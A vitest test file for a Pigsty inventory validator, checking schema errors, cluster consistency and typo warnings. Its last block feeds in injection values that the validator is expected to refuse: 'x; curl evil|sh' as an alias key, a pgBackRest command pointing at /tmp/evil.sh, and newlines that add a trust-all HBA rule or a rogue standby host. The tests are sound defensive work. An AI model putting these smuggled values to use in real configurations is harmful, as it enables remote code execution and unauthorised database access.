import { fileURLToPath } from 'node:url';
import { Type } from '@sinclair/typebox';
import { describe, expect, it } from 'vitest';
import { EngineError } from '../../engine/errors.ts';
import { loadInventory, parseInventory } from '../../engine/inventory.ts';
import { validateInventory, varContext, type SemanticCheck } from '../../engine/validate.ts';
import { checks } from '../../roles/checks.ts';
import { PigstyParams } from '../../roles/params.ts';

const fixture = (name: string): string => fileURLToPath(new URL(`../fixtures/validate/${name}`, import.meta.url));
const pigsty = { schema: PigstyParams, checks };
const described = (errors: EngineError[]): string[] => errors.map((e) => e.describe());

/** Validate inline YAML (file name "inline.yml"). */
function check(yaml: string, hosts?: string[]) {
  return validateInventory(parseInventory(yaml, 'inline.yml'), { ...pigsty, ...(hosts ? { hosts } : {}) });
}

describe('a valid four-node inventory', () => {
  it('has no errors and no warnings', () => {
    const { errors, warnings } = validateInventory(loadInventory(fixture('full.yml')), pigsty);
    expect(described(errors)).toEqual([]);
    expect(described(warnings)).toEqual([]);
  });
});

describe('schema errors point at the YAML that set the value', () => {
  const { errors } = validateInventory(loadInventory(fixture('bad-enum.yml')), pigsty);

  it('names file:line, host, YAML path and the allowed values for a bad host var', () => {
    const e = errors.find((x) => x.context.path?.endsWith('.pg_role'));
    expect(e?.context).toMatchObject({ line: 6, host: '10.10.10.11', path: 'all.children.pg-test.hosts["10.10.10.11"].pg_role' });
    expect(e?.context.file).toMatch(/bad-enum\.yml$/);
    expect(e?.describe()).toMatch(
      /bad-enum\.yml:6:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.hosts\["10\.10\.10\.11"\]\.pg_role: invalid value "master" \(expected one of primary, replica, standby, offline, delayed\)$/,
    );
    expect(e?.expected).toBe('one of primary, replica, standby, offline, delayed');
  });

  it('reports a bad group var once, at the group, with the number of hosts it affects', () => {
    const conf = errors.filter((x) => x.context.path === 'all.children.pg-test.vars.pg_conf');
    expect(conf).toHaveLength(1);
    expect(conf[0]?.context.line).toBe(11);
    expect(conf[0]?.describe()).toMatch(
      /bad-enum\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_conf: invalid value "fast\.yml" \(affects 3 hosts\) \(expected one of oltp\.yml, olap\.yml, tiny\.yml, crit\.yml\)/,
    );
  });

  it('has nothing else to say about that file', () => {
    expect(errors).toHaveLength(2);
  });

  it('locates values nested in lists and names the failing field', () => {
    const { errors: nested } = check(`all:
  children:
    pg-meta:
      hosts: { 10.10.10.10: { pg_seq: 1, pg_role: primary } }
      vars:
        pg_cluster: pg-meta
        pg_users:
          - { name: dbuser_meta }
          - { name: dbuser_view, state: drop }
        pg_databases:
          - name: meta
            extensions: [ postgis, { schema: public } ]
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(described(nested)).toEqual([
      expect.stringMatching(
        /^inline\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_users\[1\]\.state: invalid value "drop" \(expected one of create, absent\)$/,
      ),
      expect.stringMatching(/^inline\.yml:12:\d+: .*pg_databases\[0\]\.extensions\[1\]: missing required field "name"/),
    ]);
  });

  it('describes a union by all its forms and says what was found', () => {
    const { errors: union } = check(
      'all:\n  hosts: { 10.10.10.10: { pg_max_conn: lots, pg_rto_plan: { norm: [30, 5] }, pg_port: "5432" } }\n  vars: { admin_ip: 10.10.10.10 }\n',
    );
    expect(union.map((e) => [e.message, e.expected])).toEqual([
      ['invalid value "lots"', '"auto" or an integer >= 1'],
      ['has 2 items', 'a list of 10 items'],
      ['invalid value "5432"', 'an integer from 1 to 65535'],
    ]);
  });

  it('says when a value is an Ansible template, which the engine does not expand', () => {
    const { errors: tpl } = check(
      `all:\n  hosts: { 10.10.10.10: {} }\n  vars: { admin_ip: 10.10.10.10, repo_packages: "{{ repo_packages_default | list }}" }\n`,
    );
    expect(tpl[0]?.message).toContain('Jinja template');
    expect(tpl[0]?.expected).toBe('a list');
  });

  it('calls an empty YAML value empty', () => {
    const { errors: empty } = check('all:\n  hosts: { 10.10.10.10: { pg_version: } }\n  vars: { admin_ip: 10.10.10.10 }\n');
    expect(empty[0]?.message).toBe('invalid value an empty value');
  });
});

describe('semantic checks', () => {
  const { errors } = validateInventory(loadInventory(fixture('two-primaries.yml')), pigsty);

  it('finds two primaries in one cluster and names both hosts', () => {
    const e = errors.find((x) => x.message.includes('primaries'));
    expect(e?.message).toBe('cluster pg-test has 2 primaries: 10.10.10.11 and 10.10.10.12');
    expect(e?.context).toMatchObject({ line: 7, host: '10.10.10.12', path: 'all.children.pg-test.hosts["10.10.10.12"].pg_role' });
  });

  it('finds a duplicate pg_seq', () => {
    const e = errors.find((x) => x.message.startsWith('pg_seq'));
    expect(e?.message).toBe('pg_seq 2 is used by both 10.10.10.12 and 10.10.10.13 in cluster pg-test');
    expect(e?.context).toMatchObject({ line: 8, host: '10.10.10.13', path: 'all.children.pg-test.hosts["10.10.10.13"].pg_seq' });
  });

  it('wants pg_cluster, pg_seq and pg_role together', () => {
    const e = errors.find((x) => x.context.host === '10.10.10.14');
    expect(e?.message).toBe('pg_role is not set, but pg_cluster and pg_seq are');
    expect(e?.context).toMatchObject({ line: 12, path: 'all.children.pg-bad.hosts["10.10.10.14"]' });
    expect(errors).toHaveLength(3);
  });

  it('counts membership by pg_cluster across groups, not by group', () => {
    const { errors: spread } = check(`all:
  children:
    east: { hosts: { 10.10.10.11: { pg_cluster: pg-x, pg_seq: 1, pg_role: primary } } }
    west: { hosts: { 10.10.10.12: { pg_cluster: pg-x, pg_seq: 1, pg_role: primary } } }
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(spread.map((e) => e.message).sort()).toEqual([
      'cluster pg-x has 2 primaries: 10.10.10.11 and 10.10.10.12',
      'pg_seq 1 is used by both 10.10.10.11 and 10.10.10.12 in cluster pg-x',
    ]);
  });

  it('reports a cluster without a primary', () => {
    const { errors: none } = check(
      'all:\n  hosts: { 10.10.10.11: { pg_seq: 1, pg_role: replica } }\n  vars: { admin_ip: 10.10.10.10, pg_cluster: pg-x }\n',
    );
    expect(none.map((e) => e.message)).toEqual(['cluster pg-x has no primary among 10.10.10.11']);
  });

  it('rejects cluster names that are not letters, digits and dashes, and root', () => {
    const { errors: names } = check(`all:
  children:
    a: { hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }, vars: { pg_cluster: pg_meta } }
    b: { hosts: { 10.10.10.12: { pg_seq: 1, pg_role: primary } }, vars: { pg_cluster: root } }
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(names.map((e) => e.message)).toEqual(['invalid cluster name "pg_meta"', 'invalid cluster name "root"']);
    expect(names[0]?.context.path).toBe('all.children.a.vars.pg_cluster');
  });

  it('checks etcd and MinIO sequence numbers', () => {
    const { errors: seqs } = check(`all:
  children:
    etcd: { hosts: { 10.10.10.10: { etcd_seq: 1 }, 10.10.10.11: { etcd_seq: 1 }, 10.10.10.12: {} } }
    minio: { hosts: { 10.10.10.10: { minio_seq: 1 }, 10.10.10.11: { minio_seq: 1, minio_cluster: '' } } }
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(seqs.map((e) => `${e.context.host}: ${e.message}`)).toEqual([
      '10.10.10.11: etcd_seq 1 is used by both 10.10.10.10 and 10.10.10.11 in cluster etcd',
      '10.10.10.12: etcd_seq is not set on a member of group etcd',
      '10.10.10.11: minio_cluster is empty on a host with minio_seq',
    ]);
  });

  it('compares MinIO sequence numbers within a minio_cluster only: a host without one is in no cluster', () => {
    const { errors: seqs } = check(`all:
  children:
    minio: { hosts: { 10.10.10.10: { minio_seq: 1 }, 10.10.10.11: { minio_seq: 1 }, 10.10.10.12: { minio_seq: 1, minio_cluster: m }, 10.10.10.13: { minio_seq: 1, minio_cluster: m } } }
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(seqs.map((e) => `${e.context.host}: ${e.message}`)).toEqual([
      '10.10.10.13: minio_seq 1 is used by both 10.10.10.12 and 10.10.10.13 in cluster m',
    ]);
  });

  it('wants admin_ip, reported once for all hosts', () => {
    const { errors: admin } = check('all:\n  hosts: { 10.10.10.10: {}, 10.10.10.11: {} }\n  vars: { region: default }\n');
    expect(described(admin)).toEqual([
      expect.stringMatching(/^inline\.yml:3:\d+: host 10\.10\.10\.10: all\.vars: admin_ip is not set \(affects 2 hosts\)/),
    ]);
  });

  it('finds a user or database defined twice in a cluster', () => {
    const { errors: dup } = check(`all:
  children:
    pg-meta:
      hosts: { 10.10.10.10: { pg_seq: 1, pg_role: primary } }
      vars:
        pg_cluster: pg-meta
        pg_users: [ { name: app }, { name: app, password: again } ]
        pg_databases: [ { name: meta }, { name: meta } ]
  vars: { admin_ip: 10.10.10.10 }
`);
    expect(dup.map((e) => [e.message, e.context.path])).toEqual([
      ['user "app" of cluster pg-meta is defined again (first at pg_users[0])', 'all.children.pg-meta.vars.pg_users[1].name'],
      ['database "meta" of cluster pg-meta is defined again (first at pg_databases[0])', 'all.children.pg-meta.vars.pg_databases[1].name'],
    ]);
  });

  it('refuses an infra host name that is no IPv4 address or host name, when any infra host is in the run', () => {
    const yaml = `all:
  children:
    infra:
      hosts:
        10.10.10.10: { infra_seq: 1 }
        'meta -rule=/tmp/x.yml': { infra_seq: 2 }
        infra-3.example: { infra_seq: 3, dns_enabled: false }
        10.10.10.300: { infra_seq: 4 }
    other: { hosts: { 10.10.10.11: {} } }
  vars: { admin_ip: 10.10.10.10 }
`;
    const expected = 'an IPv4 address, or a host name of letters, digits, - and dots (no spaces, quotes, $ or backslashes)';
    expect(described(check(yaml, ['10.10.10.10']).errors)).toEqual([
      `inline.yml:6:9: host meta -rule=/tmp/x.yml: all.children.infra.hosts["meta -rule=/tmp/x.yml"]: infra host "meta -rule=/tmp/x.yml" is not an IPv4 address or a host name (expected ${expected})`,
      `inline.yml:8:9: host 10.10.10.300: all.children.infra.hosts["10.10.10.300"]: infra host "10.10.10.300" is not an IPv4 address or a host name (expected ${expected})`,
    ]);
    expect(check(yaml, ['10.10.10.11']).errors).toEqual([]);
  });

  it('refuses a system directory as infra_data, naming the parameter and what it takes', () => {
    const { errors } = check('all:\n  hosts: { 10.10.10.10: {} }\n  vars: { admin_ip: 10.10.10.10, infra_data: /data/../etc }\n');
    expect(described(errors)).toEqual([
      'inline.yml:3:34: host 10.10.10.10: all.vars.infra_data: invalid value "/data/../etc" (expected an absolute path of letters, digits and _ . / - without . or .. segments, neither /, /var, /var/tmp, /tmp, /root nor /home, and not in /etc, /usr, /bin, /sbin, /lib*, /boot, /dev, /proc, /sys or /run)',
    ]);
  });

  it('validates only the selected hosts, but judges clusters by the whole inventory', () => {
    const inv = loadInventory(fixture('two-primaries.yml'));
    expect(validateInventory(inv, { ...pigsty, hosts: ['10.10.10.14'] }).errors.map((e) => e.message)).toEqual([
      'pg_role is not set, but pg_cluster and pg_seq are',
    ]);
    const onReplica = validateInventory(inv, { ...pigsty, hosts: ['10.10.10.13'] }).errors.map((e) => e.message);
    expect(onReplica).toContain('cluster pg-test has 2 primaries: 10.10.10.11 and 10.10.10.12');
    const bad = validateInventory(loadInventory(fixture('bad-enum.yml')), { ...pigsty, hosts: ['10.10.10.12'] });
    expect(bad.errors.map((e) => e.message)).toEqual(['invalid value "fast.yml"']);
  });
});

describe('unknown parameter names', () => {
  const { errors, warnings } = validateInventory(loadInventory(fixture('typo.yml')), pigsty);

  it('warns with the nearest known name, at the misspelled key', () => {
    expect(errors).toEqual([]);
    expect(described(warnings)).toEqual([
      expect.stringMatching(
        /typo\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_verison: unknown parameter "pg_verison"; did you mean pg_version\?$/,
      ),
      expect.stringMatching(/typo\.yml:13:\d+: .*all\.vars\.ndoe_tune: unknown parameter "ndoe_tune"; did you mean node_tune\?$/),
    ]);
  });

  it('warns about an unknown name in a covered module even with no close match, and never about ansible_* or data keys', () => {
    const { warnings: w } = check(
      'all:\n  hosts: { 10.10.10.10: { ansible_host: meta, app_conf: {}, docker_enabled: true, pg_something_new: 1 } }\n  vars: { admin_ip: 10.10.10.10 }\n',
    );
    expect(w.map((e) => e.message)).toEqual(['unknown parameter "pg_something_new"']);
  });
});

describe('the validator is generic', () => {
  it('takes any schema and any checks, and locates with varContext', () => {
    const inv = parseInventory('all:\n  hosts:\n    a: { port: 80, colour: red }\n    b: { port: web, port_nmae: x }\n    c: {}\n', 'generic.yml');
    const noRed: SemanticCheck = (ctx) =>
      [...ctx.selected]
        .filter((h) => ctx.hostVars.get(h)?.colour === 'red')
        .map((h) => new EngineError('red is not allowed', varContext(ctx, h, 'colour'), 'blue'));
    const { errors, warnings } = validateInventory(inv, {
      schema: Type.Object({ port: Type.Integer(), port_name: Type.Optional(Type.String()), port_proto: Type.Optional(Type.String()) }),
      checks: [noRed],
    });
    expect(described(errors)).toEqual([
      'generic.yml:3:20: host a: all.hosts.a.colour: red is not allowed (expected blue)',
      'generic.yml:4:10: host b: all.hosts.b.port: invalid value "web" (expected an integer)',
      'generic.yml:5:5: host c: all.hosts.c: missing required field "port" (expected a mapping with port)',
    ]);
    expect(described(warnings)).toEqual(['generic.yml:4:21: host b: all.hosts.b.port_nmae: unknown parameter "port_nmae"; did you mean port_name?']);
  });
});

describe('values that would add a line to a config file', () => {
  const ns = (value: string) => `all:
  children:
    pg-test:
      hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }
      vars: { pg_cluster: pg-test, pg_namespace: ${JSON.stringify(value)}, patroni_password: ${JSON.stringify(`Pw.${value}`)} }
  vars: { admin_ip: 10.10.10.10 }
`;

  it('keeps the single-line rule on a parameter with a pattern of its own (pg_namespace ^/)', () => {
    const { errors } = check(ns('/pg\nstandby_cluster: {host: 6.6.6.6, port: 5432}\nbootstrap:\n#'));
    const e = errors.find((x) => x.context.path === 'all.children.pg-test.vars.pg_namespace');
    expect(e?.context).toMatchObject({ file: 'inline.yml', line: 5 });
    expect(e?.expected).toBe('an absolute etcd key prefix on one line, such as /pg');
    expect(e?.describe()).toContain('invalid value "/pg\\nstandby_cluster: {host: 6.6.6.6, port: 5432}\\nbootstrap:\\n#"');
  });

  it('refuses what YAML 1.1 reads as a line break: U+0085, U+2028, U+2029 and the other C1 controls', () => {
    for (const brk of ['\u0085', '\u2028', '\u2029', '\u0080', '\u009f']) {
      const { errors } = check(ns(`/pg${brk}standby_cluster: {host: 6.6.6.6}`));
      expect(errors.map((e) => [e.context.path, e.expected])).toEqual([
        ['all.children.pg-test.vars.pg_namespace', 'an absolute etcd key prefix on one line, such as /pg'],
        ['all.children.pg-test.vars.patroni_password', 'a single line without control characters'],
      ]);
    }
    expect(check(ns('/pg\u00a0x')).errors).toEqual([]);
  });

  it('refuses map keys that would add a line, an option or a command: pgbackrest_repo, pg_parameters, node_aliases, sysctl', () => {
    const { errors } = check(`all:
  children:
    pg-test:
      hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }
      vars:
        pg_cluster: pg-test
        pgbackrest_repo: { local: { "path\\n[global]\\nrepo1-host-cmd": /tmp/evil.sh, retention_full: 2 }, "a b": {} }
        pg_parameters: { "work_mem = 1\\nlisten_addresses": "*" }
        pg_users: [ { name: u, parameters: { "x'; DROP": 1 } } ]
        node_aliases: { "x; curl evil|sh": ls }
        node_sysctl_params: { "vm.swappiness\\nkernel.x": 1 }
        pg_rto_plan: { "a\\nb": { ttl: 1, loop: 1, retry: 1, primary_start_timeout: 1, safety_margin: 1 } }
  vars: { admin_ip: 10.10.10.10 }
`);
    const vars = 'all.children.pg-test.vars.';
    expect(errors.map((e) => [e.context.path?.replace(vars, ''), e.context.line, e.message, e.expected])).toEqual([
      ['pgbackrest_repo', 7, 'unexpected field "a b"', 'a mapping whose keys are repository names'],
      [
        'pgbackrest_repo.local',
        7,
        'unexpected field "path\\n[global]\\nrepo1-host-cmd"',
        'a mapping whose keys are pgBackRest option names of lowercase letters, digits, _ and - (repo1-<name> with _ as -)',
      ],
      ['pg_parameters', 8, 'unexpected field "work_mem = 1\\nlisten_addresses"', 'a mapping whose keys are PostgreSQL parameter names'],
      ['pg_users[0].parameters', 9, 'unexpected field "x\'; DROP"', 'a mapping whose keys are PostgreSQL parameter names'],
      ['node_aliases', 10, 'unexpected field "x; curl evil|sh"', 'a mapping whose keys are alias names (letters, digits and _ . : + @ % -)'],
      ['node_sysctl_params', 11, 'unexpected field "vm.swappiness\\nkernel.x"', 'a mapping whose keys are sysctl keys such as vm.swappiness'],
      ['pg_rto_plan', 12, 'unexpected field "a\\nb"', 'a mapping whose keys are plan names of letters, digits, _ and -'],
    ]);
  });

  it('does not show a secret that breaks the line rule', () => {
    const { errors } = check(ns('/pg\u2028x'));
    const e = errors.find((x) => x.context.path === 'all.children.pg-test.vars.patroni_password');
    expect(e?.describe()).toContain('invalid value (a string; a secret is not shown)');
    expect(e?.describe()).not.toContain('Pw.');
  });

  const { errors } = validateInventory(loadInventory(fixture('hostile.yml')), pigsty);
  const at = (path: string) => errors.filter((e) => e.context.path === `all.children.pg-test.vars.${path}`).map((e) => [e.context.line, e.expected]);

  it('refuses a database name that is not one word, and owner, template and pool_auth_user that are not names', () => {
    expect(at('pg_databases[0].name')).toEqual([[8, 'a database name of letters, digits, _ and - (at most 63, not starting with a digit or -)']]);
    expect(at('pg_databases[1].owner')).toEqual([[9, 'empty or a role name']]);
    expect(at('pg_databases[1].template')).toEqual([[9, 'empty or a database name']]);
    expect(at('pg_databases[1].pool_auth_user')).toEqual([[9, 'a role name of lowercase letters, digits and _ (at most 63)']]);
    expect(at('pg_databases[1].comment')).toEqual([]);
  });

  it('refuses a newline in an HBA title, user, addr or raw rule line, and a # in a field', () => {
    const field = 'one HBA field: no spaces, # or control characters, e.g. all, +dbrole_readonly, ${dbsu}';
    expect(at('pg_hba_rules[0].title')).toEqual([[11, 'a single line without control characters']]);
    expect(at('pg_hba_rules[1].user')).toEqual([[12, field]]);
    expect(at('pg_hba_rules[2].db')).toEqual([[13, field]]);
    expect(at('pg_hba_rules[3].addr')).toEqual([
      [14, 'one of local, localhost, admin, infra, cluster, intra, intranet, world, all or an IPv4 address[/mask]'],
    ]);
    expect(at('pg_hba_rules[4].rules[0]')).toEqual([[15, 'a single line without control characters']]);
  });

  it('refuses pgbouncer and parameter values that would add a line or a setting', () => {
    expect(at('pgbouncer_ignore_param[0]')).toEqual([[16, 'a parameter name']]);
    expect(at('pgbouncer_redirect_to')).toEqual([[17, 'a word without spaces or control characters']]);
    expect(at('pg_parameters.work_mem')).toEqual([[18, 'a single line without control characters or a number or true or false']]);
  });

  it('names the file, the host and the YAML path, and shows the newline escaped', () => {
    const e = errors.find((x) => x.context.path?.endsWith('pg_hba_rules[0].title'));
    expect(e?.describe()).toMatch(
      /hostile\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_hba_rules\[0\]\.title: invalid value "allow app\\nhost all all 0\.0\.0\.0\/0 trust"/,
    );
    expect(errors).toHaveLength(12);
  });
});
